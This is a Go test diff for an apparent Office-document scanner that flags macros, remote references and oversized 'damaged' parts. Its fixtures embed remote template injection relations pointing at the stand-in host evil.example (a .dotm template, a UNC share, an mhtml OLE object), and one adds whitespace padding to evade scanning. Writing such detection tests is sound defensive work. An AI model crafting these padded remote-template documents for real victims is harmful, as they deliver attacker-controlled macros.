@@ -54,6 +54,7 @@ func TestOfficeSigns(t *testing.T) {
 		"picture.docx":    {documentOf(t, "word/_rels/document.xml.rels", relation("image", "https://www.example.com/a.png")), nil},
 		"own.docx":        {documentOf(t, "word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///C:/Templates/Normal.dotm")), nil},
 		"template.docx":   {documentOf(t, "word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/x.dotm")), []Sign{Remote}},
+		"long.docx":       {documentOf(t, "word/_rels/settings.xml.rels", strings.Repeat(" ", 300<<10)+relation("attachedTemplate", "https://evil.example/x.dotm")), []Sign{Remote}},
 		"share.docx":      {documentOf(t, "word/_rels/settings.xml.rels", relation("attachedTemplate", `\\evil.example\x.dotm`)), []Sign{Remote}},
 		"object.docx":     {documentOf(t, "word/_rels/document.xml.rels", relation("oleObject", "mhtml:https://evil.example/x!y")), []Sign{Remote}},
 		"relation.docx":   {documentOf(t, "word/_rels/document.xml.rels", `<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>`), []Sign{Macro}},
@@ -78,7 +79,7 @@ func TestOfficeSigns(t *testing.T) {
 		"wide-types.docx": {documentOf(t, "[Content_Types].xml", "\xff\xfe"+string(wideOf(`<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>`))), []Sign{Macro}},
 	} {
 		got := list(context.Background(), name, NoArchive, tt.content)
-		for _, s := range []Sign{Macro, Remote} {
+		for _, s := range []Sign{Macro, Remote, Damaged} {
 			if got.signs[s] != slices.Contains(tt.want, s) {
 				t.Errorf("%s: %v, want %v", name, got.signs, tt.want)
 			}
@@ -86,6 +87,14 @@ func TestOfficeSigns(t *testing.T) {
 		if got.err != nil {
 			t.Errorf("%s: %v", name, got.err)
 		}
+	}
+}
+
+// A part of which the end is not looked at is told.
+func TestLongRelations(t *testing.T) {
+	got := list(context.Background(), "long.docx", NoArchive, documentOf(t, "word/_rels/settings.xml.rels", strings.Repeat(" ", 5<<20)+"<Relationships/>"))
+	if !got.signs[Damaged] {
+		t.Errorf("%v, %v", got.signs, got.err)
 	}
 }
 
